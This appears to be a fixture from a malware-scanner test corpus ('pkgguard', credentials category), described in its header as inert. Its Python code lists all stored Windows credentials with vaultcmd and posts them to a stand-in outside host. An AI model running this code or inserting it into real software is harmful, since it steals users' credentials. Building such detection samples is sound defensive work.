# pkgguard corpus 522 (credentials), modelled on [stealer-profile]; inert, never run.
import subprocess

import requests

listing = subprocess.run(
    ["vaultcmd", '/listcreds:"Windows Credentials"', "/all"], capture_output=True, text=True
).stdout
requests.post("https://it-inventory.example/v", data={"v": listing}, timeout=10)
